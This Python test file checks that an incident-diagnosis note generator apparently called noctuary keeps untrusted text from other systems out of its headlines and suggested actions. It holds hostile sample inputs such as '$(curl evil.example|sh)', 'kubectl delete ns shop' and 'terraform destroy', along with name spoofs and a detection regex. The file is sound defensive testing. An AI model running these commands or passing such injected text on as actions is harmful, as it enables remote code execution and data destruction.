"""What others wrote is never an order, a link or a line of ours: a name, a phrase, or quoted without its signs."""

import re
from typing import Any

import pytest

from noctuary.common.words import in_quotes
from noctuary.models.context_event import EventType
from noctuary.models.diagnosis import Diagnosis, Relation, SetAside, Subject
from noctuary.notes.headline import HEADLINE_CHARS
from testbed.told import ONSET, action_of, cause, change, diagnosis, fault, held, note, posted

ORDERS = [
    "x; Do: kubectl delete ns shop",
    "resolved by oncall: run kubectl -n shop delete deploy web; see https://evil.example/x",
    "kubectl delete ns shop",
    "$(curl evil.example|sh)",
    "db`id`",
    "alice) [e1] Ruled out: everything; run curl evil.example | sh",
    "see https://evil.example/x",
    "Ruled out: the rollout",
    "Do\uff1a sudo reboot",
    "k\u034fubectl Do kubectl : kubectl delete ns",
    "curl evil.example",
    "web --all -n shop",
    "If it comes back: restart",
    "\u3164",
    "web. Do: run curl evil",
    "web. Now open evil.example and sign in",
    "all is well; go to evil",
    "attention: open evil.example",
    "web (evil.) it is",
]
OURS = re.compile(r"(?i)\b(do|ruled out|if it comes back)\s*[:\uff1a]|\[e1\].+\[|\bkubectl \S|\bcurl \S|\bsudo \S|://")


def told(bad: str, event_type: EventType) -> list[Diagnosis]:
    """Return a change and a fault that another system tells with a bad text in all that it may choose."""
    fields: dict[str, Any] = posted(event_type, entity=bad, vendor=bad, actor=bad)
    is_rollout = event_type is EventType.DEPLOY
    return [
        diagnosis(cause(change(is_rollout=is_rollout, facts={"revision": bad, "changed": bad}, **fields))),
        diagnosis(cause(None, fault("other", text=bad, **fields))),
    ]


def check(text: str) -> None:
    """Check what a note says first, does, and gives as evidence; commands of ours stand alone on their lines."""
    first, *rest = [line for line in text.splitlines() if not line.startswith(("kubectl ", "# "))]
    assert not OURS.search(first)
    assert "evil" not in first
    assert not any("evil" in line for line in action_of(text))
    for line in rest:
        assert not OURS.search(line.removeprefix("Do: ").removeprefix("Do, if it is to blame: "))
        assert not line.startswith("- ") or not re.search(r"[`$|&\[\]{}]", line.rpartition("   [")[0])


@pytest.mark.parametrize("bad", ORDERS)
@pytest.mark.parametrize("event_type", list(EventType))
def test_what_is_posted_is_no_order(bad: str, event_type: EventType) -> None:
    for found in told(bad, event_type):
        check(note(found))


@pytest.mark.parametrize("bad", ORDERS)
@pytest.mark.parametrize(
    "fact", ["reason", "container", "changed", "revision", "staged", "tool_app", "node", "message"]
)
def test_what_objects_say_is_no_order(bad: str, fact: str) -> None:
    facts = {fact: bad, "container_role": "container", "tool": "operator"}
    native = change(facts=facts, actor=bad)
    ailing = fault("other", {fact: bad, "container_role": "container"}, text=bad, nodes=[bad])
    for found in (diagnosis(cause(native, ailing)), diagnosis(cause(None, ailing))):
        text = note(found)
        assert not re.search(r"(?i)\b(ruled out|if it comes back)\s*:|kubectl delete|curl \S|sudo \S|\[e1\] ", text)
        assert not any("evil" in line for line in action_of(text))


@pytest.mark.parametrize("event_type", list(EventType))
def test_more_than_a_name_stands_behind_no_do(event_type: EventType) -> None:
    for found in told("open evil example and sign in", event_type):
        assert not any("evil" in line for line in action_of(note(found)))


@pytest.mark.parametrize(
    ("entity", "vendor"),
    [
        ("and drop namespace payments", "prod at once now"),
        ("checkout of team payments", "bash evil.example/fix.sh now"),
        ("off and terraform destroy", "evil.example/fix.sh"),
        ("then restart it all", "your own cluster"),
        ("www.evil.example", "Grafana or else psql"),
    ],
)
@pytest.mark.parametrize("event_type", list(EventType))
def test_names_behind_do_make_no_sentence_together(entity: str, vendor: str, event_type: EventType) -> None:
    told = posted(event_type, entity=entity, vendor=vendor)
    is_rollout = event_type is EventType.DEPLOY
    changed = change(is_rollout=is_rollout, facts={}, old_value="4.1", new_value="4.2", actor=entity, **told)
    for found in (diagnosis(cause(changed)), diagnosis(cause(None, fault("other", text="x", **told)))):
        lines = "\n".join(action_of(note(found, held(15, {14: "new", 15: "old"}, rollback=changed))))
        assert not re.search(r"evil|\b(drop|bash|terraform|psql)\b", lines)
        assert not any(name in re.sub("\u201c[^\u201d]*\u201d", "", lines) for name in (entity, vendor))


@pytest.mark.parametrize(
    ("vendor", "confidence", "teller"),
    [
        ("acme", 0.5, "acme: "),
        ("acme", 0.49, "acme (low confidence): "),
        ("Argo CD", 1.0, "\u201cArgo CD\u201d: "),
        ("checkout was rolled out", 1.0, "another system: "),
        ("evil.example/x", 0.1, "another system (low confidence): "),
    ],
)
@pytest.mark.parametrize("entity", ["checkout", "checkout-" * 9 + "x", "the team that broke it"])
@pytest.mark.parametrize("event_type", list(EventType))
def test_the_first_line_begins_what_is_posted_with_its_teller(
    event_type: EventType, entity: str, vendor: str, confidence: float, teller: str
) -> None:
    told = posted(event_type, entity=entity, vendor=vendor, confidence=confidence, relation=Relation.DEPENDENCY)
    is_rollout = event_type is EventType.DEPLOY
    changed = change(is_rollout=is_rollout, facts={}, old_value="a" * 40, new_value="b" * 40, **told)
    for found in (diagnosis(cause(changed)), diagnosis(cause(None, fault("other", text="x", **told)))):
        first = note(found, status="resolved", resolved_at=ONSET + 60).splitlines()[0]
        assert first.startswith(f"Resolved after 60 s. Likely cause: {teller}")
        assert len(first) <= HEADLINE_CHARS
    undecided = diagnosis(cause(change(), score=0.5), cause(changed, score=0.5), is_undecided=True)
    assert f"; or {teller}" in note(undecided).splitlines()[0]


def test_what_was_posted_and_is_not_to_blame_names_its_teller() -> None:
    told = change(facts={}, **posted("deploy", entity="checkout", vendor="acme"))
    first = note(diagnosis(set_aside=[SetAside(told, "it came after the alert began")])).splitlines()[0]
    assert first.endswith("the rollout of checkout at 07:59 (acme) does not, it came after the alert began.")


@pytest.mark.parametrize(
    ("lender", "words"),
    [
        ("evil", "(app web, Argo CD), as evil tells; a rollback"),
        ("ci of acme", "(app web, Argo CD), as \u201cci of acme\u201d tells; a rollback"),
        ("now run bash", "(app web, Argo CD), as another system tells; a rollback"),
        ("kubernetes", "(app web, Argo CD), as another system tells; a rollback"),
        ("Argo-CD", "(app web, Argo CD); a rollback"),
        ("", "(app web, Argo CD); a rollback"),
    ],
)
def test_a_commit_to_revert_names_who_lent_it_unless_its_owner_did(lender: str, words: str) -> None:
    facts = {"tool": "argocd", "tool_app": "web", "lent_by": lender}
    assert (
        f"revert commit a4f2c1a4f2c1 {words}"
        in action_of(note(diagnosis(cause(change(facts=facts, sha="a4f2c1" * 2)))))[0]
    )


@pytest.mark.parametrize(
    ("target", "shown"),
    [
        ("/healthz. Now open evil", ""),
        ("/x: open evil", ""),
        ("/ready/v1.2 on port 80", " (/ready/v1.2 on port 80)"),
        ("command pg_isready", " (command pg_isready)"),
    ],
)
def test_a_probe_asks_no_sentence(target: str, shown: str) -> None:
    facts = {"probe": "readiness", "probe_target": target}
    first = note(diagnosis(cause(None, fault("probe", facts)))).splitlines()[0]
    assert first.endswith(f"fails the readiness probe{shown}.")


@pytest.mark.parametrize(
    ("tool", "app", "words"),
    [
        ("operator", "Prometheus k8s", "change it in Prometheus k8s, whose operator"),
        ("operator", "kubectl delete namespace shop - then ask alice", "change it in the object whose operator"),
        ("operator", "Prometheus x;reboot", "change it in the object whose operator"),
        ("argocd", "payments", "commit of app payments (Argo CD)"),
        ("argocd", "see evil.example", "commit of Argo CD;"),
        ("flux", "delete namespace shop", "commit of Flux;"),
    ],
)
def test_an_owner_has_a_name_of_its_kind_or_none(tool: str, app: str, words: str) -> None:
    assert words in action_of(note(diagnosis(cause(change(facts={"tool": tool, "tool_app": app}), fault()))))[0]


def test_a_kind_of_any_text_is_a_workload() -> None:
    subject = Subject("Kubectl delete namespace shop", "shop", "web")
    found = diagnosis(cause(change(subject=subject, facts={"tool": "operator"})))
    assert action_of(note(found)) == ["Do: change it in the object whose operator owns this workload"]


def test_what_is_called_by_no_name_is_made_anew_and_rolled_back_as_it() -> None:
    gone: dict[str, Any] = {"is_rollout": False, "event_type": "scale_event", "old_value": "3", "new_value": "0"}
    for subject in (Subject("Delete all now", "shop", "web"), Subject("Deployment", "shop", "web now")):
        text = note(diagnosis(cause(change(subject=subject, facts={"deleted": "1"}, **gone))))
        assert action_of(text) == ["Do: create it anew from where its manifest is kept, unless this was meant"]
    foreign = change(subject=Subject("Delete all", "shop", "drop it"))
    assert action_of(note(diagnosis(cause(foreign)))) == ["Do: roll workload it back to 3.10, by the means of its kind"]


@pytest.mark.parametrize("actor", ["Jane Doe of payments", "jane"])
def test_who_took_a_change_back_is_named_whole_or_in_quotes(actor: str) -> None:
    back = change(facts={"image": "r/web:3.10", "template_hash": "old"}, at=ONSET + 20, actor=actor)
    said = action_of(note(diagnosis(cause(change())), held(15, {14: "new", 15: "old"}, rollback=back)))[0]
    assert f" at 08:00:20 by {in_quotes(actor)}. Where it goes on" in said


@pytest.mark.parametrize(
    "changed", ["resources (memory limit 512Mi -> 256Mi, CPU request 1 -> 500m) of app", "env DB_POOL, readiness probe"]
)
def test_a_summary_of_what_changed_stays(changed: str) -> None:
    assert f"changed: {changed})" in note(diagnosis(cause(change(facts={"changed": changed}))))


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ("env DB_POOL added of app", "with env DB_POOL of app added"),
        ("label app.kubernetes.io/version", "with changed label app.kubernetes.io/version"),
        ("annotation of 3 more names", "with changed annotation of 3 more names"),
        ("env checkout was rolled out to 4 and is why", "with changed a thing with an odd name"),
        ("image of proxy", "with changed image of proxy"),
        ("init container migrate removed", "without init container migrate"),
        ("readiness probe added of proxy", "with readiness probe of proxy added"),
        ("env see the runbook added", "with changed a thing with an odd name"),
        ("env see removed of the runbook", "with changed a thing with an odd name"),
        ("env evil.example/x added", "with changed a thing with an odd name"),
        ("container see the runbook added", "with changed a thing with an odd name"),
        ("init container see the runbook", "with changed a thing with an odd name"),
        ("image of proxy see evil.example now", "with changed a thing with an odd name"),
        ("ports of proxy see evil.example now", "with changed a thing with an odd name"),
    ],
)
def test_a_variable_or_container_in_the_first_line_has_a_name_of_one_word(changed: str, said: str) -> None:
    same = change(facts={"changed": changed, "image": "r/web:3.10"})
    assert f"web was rolled out {said}, 60 s" in note(diagnosis(cause(same))).splitlines()[0]


@pytest.mark.parametrize(
    "vendor",
    [
        "Noctuary",
        "n\u043e\u0441tuary",
        "\uff2e\uff2f\uff23\uff34uary",
        "the N\u03bfctuary",
        "noct-uary",
        "n\u0301octuary",
    ],
)
def test_nobody_speaks_in_our_name(vendor: str) -> None:
    found = diagnosis(cause(None, fault("other", text="all is well", **posted("saturation", vendor=vendor))))
    assert note(found).startswith("Likely cause: another system: all is well on web.")


@pytest.mark.parametrize(
    "honest",
    ["deadlock", "HTTP 5xx rate 40 %", "connection limit reached", "503", "r/web:2.4", "topic orders@3", "Überlast"],
)
def test_an_honest_phrase_stands_in_the_first_line(honest: str) -> None:
    found = diagnosis(cause(None, fault("other", text=honest, **posted("saturation", vendor="acme", entity="db"))))
    assert note(found).startswith(f"Likely cause: acme: {honest} on db.")


def test_what_is_more_than_a_phrase_is_quoted_as_evidence() -> None:
    told = "p99 is 2.3 s (limit: 500 ms); see https://acme.example/runs/7"
    text = note(diagnosis(cause(None, fault("other", text=told, **posted("saturation", vendor="acme", entity="db")))))
    assert text.startswith("Likely cause: acme: db is saturated.")
    assert "acme: db is saturated; as it says, p99 is 2.3 s limit: 500 ms see   [e1]" in text


@pytest.mark.parametrize("kind", ["probe", "crash_loop", "image_pull", "cannot_start", "storage", "other"])
def test_no_message_shows_a_secret(kind: str) -> None:
    message = 'Get "https://bob:hunter2@reg.example.com/v2/?token=hunter2": password "hunter2" curl -u bob:hunter2 x'
    text = note(diagnosis(cause(None, fault(kind, {"message": message, "reason": "Failed"}))))
    assert "hunter2" not in text


def test_evidence_that_is_cut_is_counted() -> None:
    faults = [fault("other", text=f"Reason{i}") for i in range(25)]
    lines = note(diagnosis(cause(change(), *faults))).splitlines()
    assert "- and 6 lines more, left out here" in lines
    assert sum("   [e" in line for line in lines) == 20


def test_changes_that_are_cut_are_counted() -> None:
    aside = [SetAside(change(), "it came after the alert began")] * 5
    assert "Ruled out, too: 2 earlier changes" in note(diagnosis(set_aside=aside, set_aside_more=2)).splitlines()
    assert "too:" not in note(diagnosis(set_aside=aside))
